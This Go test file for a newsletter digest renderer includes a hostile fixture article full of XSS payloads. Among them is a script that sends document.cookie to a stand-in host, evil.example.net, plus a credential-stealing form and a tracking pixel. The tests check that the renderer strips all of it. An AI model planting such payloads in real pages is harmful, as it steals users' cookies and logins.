@@ -1,0 +1,485 @@
+package digest
+
+import (
+	"context"
+	"flag"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/jmoiron/sqlx"
+	"golang.org/x/net/html"
+
+	"newsletter/internal/testdb"
+	"newsletter/templates"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files under testdata/golden")
+
+// Marker values the sender renders with and substitutes per reader.
+var markerRecipient = Recipient{
+	Name:           "XNLSLOTNAMEX",
+	Email:          "xnlslotemailx@slot.invalid",
+	UnsubscribeURL: "http://slot.invalid/XNLSLOTUNSUBX",
+	ManageURL:      "http://slot.invalid/XNLSLOTMANAGEX",
+}
+
+func newTestRenderer(t testing.TB) *Renderer {
+	t.Helper()
+	fsys := templates.FS("")
+	cat, err := templates.LoadCatalog(fsys)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r, err := NewRenderer(fsys, cat, RenderOptions{
+		BaseURL:       "https://digest.example.com",
+		SiteURL:       "https://news.example.com",
+		Publication:   "The Example Times",
+		PostalAddress: "The Example Times, 1 Example Street, 10115 Berlin, Germany",
+		From:          "The Example Times <digest@example.com>",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+func ts(s string) time.Time {
+	t, err := time.Parse(time.RFC3339, s)
+	if err != nil {
+		panic(err)
+	}
+	return t.UTC()
+}
+
+// hostileArticle is the worst a feed can send, as if the ingester had let all of it through.
+var hostileArticle = Article{
+	Title:       `<script>alert('title')</script>Hostile <b onmouseover="alert(1)">headline</b> <img src=x onerror="alert(2)">`,
+	GUID:        "example-en-hostile",
+	Link:        "javascript:alert(document.cookie)",
+	Section:     "<i>World</i>",
+	Author:      "<script>x()</script>Mallory",
+	ImageURL:    "javascript:alert('enclosure')",
+	ImageAlt:    `" onerror="alert(8)`,
+	PublishedAt: ts("2026-11-20T07:00:00Z"),
+	Summary: `<script>document.location='https://evil.example.net/?c='+document.cookie</script><style>body{display:none}</style>` +
+		`<p onclick="alert(3)">A perfectly ordinary <a href="javascript:alert(4)">paragraph</a></p><iframe src="https://evil.example.net/frame"></iframe>` +
+		`<form action="https://evil.example.net/steal"><input name="password"></form><img src="https://tracker.example.net/open.gif?u=42" width="1" height="1">`,
+}
+
+// goldenArticles are the articles of testdata/feeds as the ingester keeps them: one per GUID
+// (the duplicates dropped), summaries as plain text, undated items dated when first seen.
+func goldenArticles() []Article {
+	firstSeen := ts("2026-11-21T06:00:00Z")
+	en := []Article{
+		{GUID: "https://news.example.com/en/2026/11/24/keep-your-terrorists-close",
+			Title:  "Keep your terrorists close: Why Russia treats some Islamic fundamentalists as friends and others as enemies",
+			Link:   "https://news.example.com/en/2026/11/24/keep-your-terrorists-close",
+			Author: "Editorial team", Section: "Analysis", PublishedAt: ts("2026-11-24T09:30:00Z"),
+			ImageURL: "https://news.example.com/images/2026/11/hezbollah-militants.jpg", ImageAlt: "Hezbollah militants exercising",
+			Summary: "Kremlin propagandist Margarita Simonyan has publicly endorsed the actions of a Russian security officer who cut off the ear of a detained suspect following the Mar. 22 Crocus City Hall terrorist attack outside of Moscow. “This isn't Norway,” she said while highlighting the fact that her country does not follow…"},
+		{GUID: "example-en-20261123-long-view",
+			Title:  "The long view: how a small regional newsroom kept publishing through three winters of blackouts, court cases, paper shortages and one stubborn printer",
+			Link:   "https://news.example.com/en/2026/11/23/the-long-view",
+			Author: "Anna Example", Section: "Media", PublishedAt: ts("2026-11-23T15:10:00Z"),
+			ImageURL: "https://news.example.com/images/2026/11/printing-press.jpg",
+			Summary:  "For three winters the paper came out on time, even when the lights did not. Reporters wrote by candlelight, editors carried USB sticks across the city, and the printer — a 1987 press nobody else could fix — kept rolling."},
+		{GUID: "example-en-20261122-prices", Title: "Prices & wages: why the “ruble” fell — again",
+			Link: "https://news.example.com/en/2026/11/22/prices-and-wages", Section: "Economy", PublishedAt: ts("2026-11-22T08:00:00Z"),
+			Summary: "Real wages fell for the fourth month in a row as the central bank struggled with inflation above 9%. Economists expect no relief before spring."},
+		{GUID: "example-en-20261122-key-rate", Title: "Breaking: Central bank raises key rate to 21% & signals more",
+			Link: "https://news.example.com/en/2026/11/22/key-rate", Section: "Economy", PublishedAt: ts("2026-11-22T12:45:00Z"),
+			Summary: "The decision surprised markets, which had priced in a pause."},
+		{GUID: "example-en-village-library", Title: "Volunteers rebuild a village library, book by book",
+			Link: "https://news.example.com/en/2026/11/21/village-library", Section: "Society", PublishedAt: firstSeen,
+			Summary: "The item carries no date at all: its published time falls back to when it was first seen."},
+		{GUID: "example-en-sanctions-tracker", Title: "Sanctions tracker: what changed this week",
+			Link: "https://news.example.com/en/2026/11/21/sanctions-tracker", Section: "Economy", PublishedAt: ts("2026-11-21T18:00:00Z"),
+			Summary: "Three new packages, two delistings and one court ruling."},
+		{GUID: "https://news.example.com/en/2026/11/19/banned-theatre", Title: "Inside the archive of a banned theatre",
+			Link: "https://news.example.com/en/2026/11/19/banned-theatre/", Section: "Culture", PublishedAt: ts("2026-11-19T11:20:00Z"),
+			Summary: "An item with no GUID: it is known by its link, with the tracking parameters and the fragment dropped."},
+		hostileArticle,
+		{GUID: "https://news.example.com/en/2026/11/23/arctic-shipping", Title: "Arctic shipping season runs three weeks longer than ever recorded",
+			Link: "https://news.example.com/en/2026/11/23/arctic-shipping", Author: "Ivan Example", Section: "Climate", PublishedAt: ts("2026-11-23T07:45:00Z"),
+			ImageURL: "https://news.example.com/images/2026/11/icebreaker.jpg",
+			Summary:  "Ships sailed the Northern Sea Route until late November this year, three weeks past the usual close of the season."},
+		{GUID: "example-en-20261122-fusion", Title: "Q&A: what the latest fusion record does (and doesn't) mean",
+			Link: "https://news.example.com/en/2026/11/22/fusion", Section: "Science", PublishedAt: ts("2026-11-22T13:00:00Z"),
+			Summary: "A physicist explains why a record run of 22 minutes matters more than the headlines about \"limitless energy\"."},
+		{GUID: "example-en-20261120-birds", Title: "Migrating birds change their route over the Baltic",
+			Link: "https://news.example.com/en/2026/11/20/birds", PublishedAt: ts("2026-11-20T10:00:00Z"), ImageURL: "javascript:alert(1)",
+			Summary: "Ornithologists counted fewer geese over the Curonian Spit this autumn. The birds appear to fly further inland."},
+	}
+	ru := []Article{
+		{GUID: "tag:news.example.com,2026:ru/2026-11-24/kreml-i-taliban",
+			Title: "Кремль и «Талибан»: почему Москва выбирает одних радикалов в союзники, а других — во враги",
+			Link:  "https://news.example.com/ru/2026/11/24/kreml-i-taliban", Author: "Редакция", Section: "Политика",
+			PublishedAt: ts("2026-11-24T08:00:00Z"), ImageURL: "https://news.example.com/images/2026/11/taliban-kabul.jpg",
+			Summary: "Российская пропаганда называет одни исламистские группировки «партнёрами», а другие — «террористами». Разбираемся, по какому принципу Кремль делит их на своих и чужих и что Москва получает от этой дружбы."},
+		{GUID: "tag:news.example.com,2026:ru/2026-11-23/dolgaya-doroga",
+			Title: "Долгая дорога домой: как жители прифронтовых сёл возвращаются в свои дома, восстанавливают школы и больницы и заново учатся жить рядом с войной сейчас",
+			Link:  "https://news.example.com/ru/2026/11/23/dolgaya-doroga", Author: "Мария Пример", Section: "Общество",
+			PublishedAt: ts("2026-11-23T06:15:00Z"), Summary: "Репортаж из трёх сёл, где люди возвращаются домой, несмотря ни на что."},
+		{GUID: "tag:news.example.com,2026:ru/2026-11-22/kurs-rublya", Title: "Срочно: курс рубля & нефть — что происходит на рынке",
+			Link: "https://news.example.com/ru/2026/11/22/kurs-rublya", Section: "Экономика", PublishedAt: ts("2026-11-22T13:40:00Z"),
+			Summary: "Доллар стоит 90,19 ₽, евро — 97,90 ₽. У этой записи есть только дата обновления: она и становится датой публикации."},
+		{GUID: "tag:news.example.com,2026:ru/vystavka-knig", Title: "Выставка запрещённых книг открылась в Риге",
+			Link: "https://news.example.com/ru/2026/11/21/vystavka-knig", Section: "Культура", PublishedAt: firstSeen,
+			Summary: "У этой записи нет ни даты публикации, ни даты обновления."},
+		{GUID: "tag:news.example.com,2026:ru/2026-11-20/sevmorput", Title: "Северный морской путь: лёд отступает, суда идут",
+			Link: "https://news.example.com/ru/2026/11/20/sevmorput", Author: "Иван Пример", Section: "Мир", PublishedAt: ts("2026-11-20T08:00:00Z"),
+			Summary: "Навигация по Северному морскому пути в этом году продлилась на три недели дольше обычного. Учёные связывают это с потеплением в Арктике."},
+		{GUID: "tag:news.example.com,2026:ru/2026-11-19/uchitelya", Title: "Учителя из Бурятии: «Мы учим детей думать»",
+			Link: "https://news.example.com/ru/2026/11/19/uchitelya", Section: "Общество", PublishedAt: ts("2026-11-19T11:00:00Z"),
+			Summary: "В сельской школе под Улан-Удэ — двенадцать учеников и три учителя."},
+	}
+	for i := range en {
+		en[i].Lang = "en"
+	}
+	for i := range ru {
+		ru[i].Lang = "ru"
+	}
+	return append(en, ru...)
+}
+
+// goldenIssues stores the fixture articles and assembles both languages at the fixed clock.
+func goldenIssues(t testing.TB, db *sqlx.DB) (*Store, map[string]int64) {
+	t.Helper()
+	ctx := context.Background()
+	s := NewStore(db, func() time.Time { return asmNow })
+	for _, a := range goldenArticles() {
+		asmInsert(t, db, a)
+	}
+	ids := map[string]int64{}
+	for _, lang := range []string{"en", "ru"} {
+		iss, err := s.Assemble(ctx, lang, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		ids[lang] = iss.ID
+	}
+	if err := s.UpdateIssueText(ctx, ids["en"], "", "Welcome to the first issue of our weekly digest.\n\nTell us what you think: just reply to this email."); err != nil {
+		t.Fatal(err)
+	}
+	return s, ids
+}
+
+func TestGolden(t *testing.T) {
+	ctx := context.Background()
+	db := testdb.New(t)
+	s, ids := goldenIssues(t, db)
+	r := newTestRenderer(t)
+	for _, tt := range []struct {
+		lang string
+		max  int
+	}{{"en", 0}, {"ru", 4}} {
+		t.Run(tt.lang, func(t *testing.T) {
+			c, err := s.Content(ctx, ids[tt.lang], tt.max)
+			if err != nil {
+				t.Fatal(err)
+			}
+			out, err := r.Render(c, markerRecipient)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for ext, got := range map[string]string{"html": out.HTML, "txt": "Subject: " + out.Subject + "\nPreheader: " + out.Preheader + "\n\n" + out.Text} {
+				path := filepath.Join("testdata", "golden", "digest."+tt.lang+"."+ext)
+				if *update {
+					if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
+						t.Fatal(err)
+					}
+					continue
+				}
+				want, err := os.ReadFile(path)
+				if err != nil {
+					t.Fatalf("%v (run with -update to create it)", err)
+				}
+				if got != string(want) {
+					t.Errorf("%s differs from the golden file; if the change is intended, run go test ./digest/ -run Golden -update\n%s", path, firstDiff(string(want), got))
+				}
+			}
+		})
+	}
+}
+
+// firstDiff shows the first line where want and got part.
+func firstDiff(want, got string) string {
+	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
+	for i := range max(len(w), len(g)) {
+		var wl, gl string
+		if i < len(w) {
+			wl = w[i]
+		}
+		if i < len(g) {
+			gl = g[i]
+		}
+		if wl != gl {
+			return fmt.Sprintf("line %d:\nwant %q\ngot  %q", i+1, wl, gl)
+		}
+	}
+	return ""
+}
+
+func TestRenderRecipient(t *testing.T) {
+	ctx := context.Background()
+	db := testdb.New(t)
+	s, ids := goldenIssues(t, db)
+	r := newTestRenderer(t)
+	c, err := s.Content(ctx, ids["en"], 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	marked, err := r.Render(c, markerRecipient)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, m := range []string{markerRecipient.Name, markerRecipient.UnsubscribeURL, markerRecipient.ManageURL} {
+		if !strings.Contains(marked.HTML, m) || !strings.Contains(marked.Text, m) {
+			t.Errorf("marker %q missing from the HTML or the text", m)
+		}
+	}
+	if strings.Contains(marked.HTML+marked.Text, "xnlslotemailx") {
+		t.Error("the recipient's address is in the body")
+	}
+
+	// Rendering for another reader gives exactly the marked output with the markers replaced:
+	// nothing else about the reader is in it.
+	other := Recipient{Name: "Zoë", Email: "zoe@example.org", UnsubscribeURL: "https://digest.example.com/unsubscribe/tok-1", ManageURL: "https://digest.example.com/manage/tok-2"}
+	got, err := r.Render(c, other)
+	if err != nil {
+		t.Fatal(err)
+	}
+	subst := strings.NewReplacer(markerRecipient.Name, other.Name, markerRecipient.UnsubscribeURL, other.UnsubscribeURL, markerRecipient.ManageURL, other.ManageURL)
+	if subst.Replace(marked.HTML) != got.HTML {
+		t.Errorf("HTML for another reader is not the marked HTML with markers replaced\n%s", firstDiff(subst.Replace(marked.HTML), got.HTML))
+	}
+	if subst.Replace(marked.Text) != got.Text {
+		t.Errorf("text for another reader is not the marked text with markers replaced\n%s", firstDiff(subst.Replace(marked.Text), got.Text))
+	}
+
+	// The copy for nobody has no reader links and invites to subscribe instead.
+	archive, err := r.Render(c, Recipient{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, part := range []string{archive.HTML, archive.Text} {
+		if strings.Contains(part, "slot.invalid") || strings.Contains(part, "unsubscribe") || !strings.Contains(part, "https://digest.example.com/") {
+			t.Errorf("archive copy: want no reader links and the subscribe link")
+		}
+	}
+	if !strings.Contains(archive.HTML, `href="https://digest.example.com/archive/`) {
+		t.Error("no view-in-browser link")
+	}
+}
+
+// TestRenderHostile feeds the hostile article as the lead (its image path included) and as an
+// ordinary item, and checks nothing active from it reaches the HTML.
+func TestRenderHostile(t *testing.T) {
+	r := newTestRenderer(t)
+	lead := hostileArticle
+	lead.ID, lead.Lang, lead.Pinned = 1, "en", true
+	item := hostileArticle
+	item.ID, item.Lang, item.Section = 2, "en", ""
+	c := Arrange([]Article{lead, item}, 0)
+	c.Issue = Issue{ID: 7, Lang: "en", WindowEnd: asmNow, Note: `<script>alert("note")</script>`}
+	for _, rcpt := range []Recipient{markerRecipient, {}} {
+		out, err := r.Render(c, rcpt)
+		if err != nil {
+			t.Fatal(err)
+		}
+		checkInert(t, out.HTML)
+		if !strings.Contains(out.HTML, "Hostile") {
+			t.Error("the hostile headline's text should still show, escaped")
+		}
+	}
+}
+
+// checkInert fails when doc holds anything active or any non-http(s) link or a foreign image.
+func checkInert(t *testing.T, doc string) {
+	t.Helper()
+	z := html.NewTokenizer(strings.NewReader(doc))
+	for {
+		tt := z.Next()
+		if tt == html.ErrorToken {
+			return
+		}
+		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
+			continue
+		}
+		tok := z.Token()
+		switch tok.Data {
+		case "script", "iframe", "form", "input", "object", "embed", "svg", "button", "frame", "base", "link":
+			t.Errorf("element <%s> in the output", tok.Data)
+		}
+		for _, a := range tok.Attr {
+			if strings.HasPrefix(a.Key, "on") {
+				t.Errorf("event handler %s=%q on <%s>", a.Key, a.Val, tok.Data)
+			}
+			if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") {
+				t.Errorf("link %q", a.Val)
+			}
+			if a.Key == "src" && !strings.HasPrefix(a.Val, "https://news.example.com/") {
+				t.Errorf("image %q", a.Val)
+			}
+		}
+	}
+}
+
+// TestRenderSize asserts a full digest stays under Gmail's 102 KB clipping limit.
+func TestRenderSize(t *testing.T) {
+	r := newTestRenderer(t)
+	c := Arrange(maxSizeArticles(20), 20)
+	c.Issue = Issue{ID: 123456, Lang: "en", WindowEnd: asmNow, Note: strings.Repeat("A note from the editors. ", 40)}
+	out, err := r.Render(c, markerRecipient)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := len(out.HTML); n >= 100*1024 {
+		t.Errorf("HTML of a 20-article digest is %d bytes, want under 100 KB", n)
+	} else {
+		t.Logf("HTML of a 20-article digest: %d bytes; text: %d bytes", n, len(out.Text))
+	}
+}
+
+// maxSizeArticles makes n articles with 150-character titles and 300-character summaries.
+func maxSizeArticles(n int) []Article {
+	sections := []string{"World", "Economy", "Culture", "Science", ""}
+	var out []Article
+	for i := range n {
+		title := fmt.Sprintf("Headline number %02d ", i) + strings.Repeat("long words in a headline ", 6)
+		summary := strings.Repeat("A summary sentence that goes on for a while. ", 7)
+		out = append(out, Article{
+			ID: int64(i + 1), Lang: "en", GUID: fmt.Sprintf("max-%d", i),
+			Title: title[:150], Summary: summary[:299] + "…",
+			Link:   fmt.Sprintf("https://news.example.com/en/2026/11/%02d/a-rather-long-article-slug-for-story-number-%d", 1+i%24, i),
+			Author: "Anna Example", Section: sections[i%len(sections)],
+			ImageURL:    fmt.Sprintf("https://news.example.com/images/2026/11/picture-%d.jpg", i),
+			PublishedAt: asmNow.Add(-time.Duration(i) * time.Hour),
+		})
+	}
+	return out
+}
+
+func TestRenderText(t *testing.T) {
+	ctx := context.Background()
+	db := testdb.New(t)
+	s, ids := goldenIssues(t, db)
+	r := newTestRenderer(t)
+	for lang, id := range ids {
+		c, err := s.Content(ctx, id, 3)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out, err := r.Render(c, markerRecipient)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, line := range strings.Split(out.Text, "\n") {
+			if n := utf8.RuneCountInString(line); n > textWidth && strings.Contains(strings.TrimSpace(line), " ") {
+				t.Errorf("%s line %d has %d characters: %q", lang, i+1, n, line)
+			}
+		}
+		// Every reference mark has its link in the list at the end, and the lead's link is [1].
+		if !strings.Contains(out.Text, "\n[1] "+c.Lead.Link+"\n") {
+			t.Errorf("%s: the lead's link is not reference [1]", lang)
+		}
+		if !strings.Contains(out.Text, "https://news.example.com\n") {
+			t.Errorf("%s: no link to the site for the articles past the limit", lang)
+		}
+	}
+}
+
+func TestFormatDate(t *testing.T) {
+	tests := []struct {
+		lang string
+		t    time.Time
+		want string
+	}{
+		{"en", asmNow, "25 November 2026"},
+		{"ru", asmNow, "25 ноября 2026"},
+		{"ru", ts("2026-03-01T00:00:00Z"), "1 марта 2026"},
+		{"ru", ts("2026-05-09T23:59:00Z"), "9 мая 2026"},
+		{"de", asmNow, "25 November 2026"},
+	}
+	for _, tt := range tests {
+		if got := FormatDate(tt.lang, tt.t); got != tt.want {
+			t.Errorf("FormatDate(%s, %v) = %q, want %q", tt.lang, tt.t, got, tt.want)
+		}
+	}
+}
+
+func TestSubject(t *testing.T) {
+	r := newTestRenderer(t)
+	lead := &Article{Title: "Заголовок\nв две строки"}
+	tests := []struct {
+		name  string
+		lang  string
+		total int
+		set   string
+		want  string
+	}{
+		{"RuOne", "ru", 2, "", "Заголовок в две строки — и ещё 1 материал"},
+		{"RuFew", "ru", 3, "", "Заголовок в две строки — и ещё 2 материала"},
+		{"RuMany", "ru", 6, "", "Заголовок в две строки — и ещё 5 материалов"},
+		{"RuTwentyOne", "ru", 22, "", "Заголовок в две строки — и ещё 21 материал"},
+		{"EnOne", "en", 2, "", "Заголовок в две строки — and 1 more story"},
+		{"EnOther", "en", 12, "", "Заголовок в две строки — and 11 more stories"},
+		{"LeadOnly", "en", 1, "", "Заголовок в две строки"},
+		{"EditorWins", "en", 5, "Our own subject", "Our own subject"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := IssueContent{Issue: Issue{Lang: tt.lang, Subject: tt.set}, Lead: lead, Total: tt.total}
+			if got := r.Subject(c); got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestWrapText(t *testing.T) {
+	long := strings.Repeat("слово ", 30)
+	got := wrapText("* ", "  ", long)
+	for _, l := range strings.Split(got, "\n") {
+		if n := utf8.RuneCountInString(l); n > textWidth {
+			t.Errorf("line of %d runes: %q", n, l)
+		}
+		if !strings.HasPrefix(l, "* ") && !strings.HasPrefix(l, "  ") {
+			t.Errorf("line without its indent: %q", l)
+		}
+	}
+	if url := "https://example.com/" + strings.Repeat("x", 100); wrapText("", "", url) != url {
+		t.Error("a word longer than the line must stay whole")
+	}
+}
+
+// BenchmarkAssembleRender20 assembles (refreshing the draft) and renders a 20-article digest.
+func BenchmarkAssembleRender20(b *testing.B) {
+	ctx := context.Background()
+	db := testdb.New(b)
+	s := NewStore(db, func() time.Time { return asmNow })
+	for _, a := range maxSizeArticles(20) {
+		a.ID = 0
+		asmInsert(b, db, a)
+	}
+	r := newTestRenderer(b)
+	b.ReportAllocs()
+	for b.Loop() {
+		iss, err := s.Assemble(ctx, "en", 20)
+		if err != nil {
+			b.Fatal(err)
+		}
+		c, err := s.Content(ctx, iss.ID, 20)
+		if err != nil {
+			b.Fatal(err)
+		}
+		if _, err := r.Render(c, markerRecipient); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
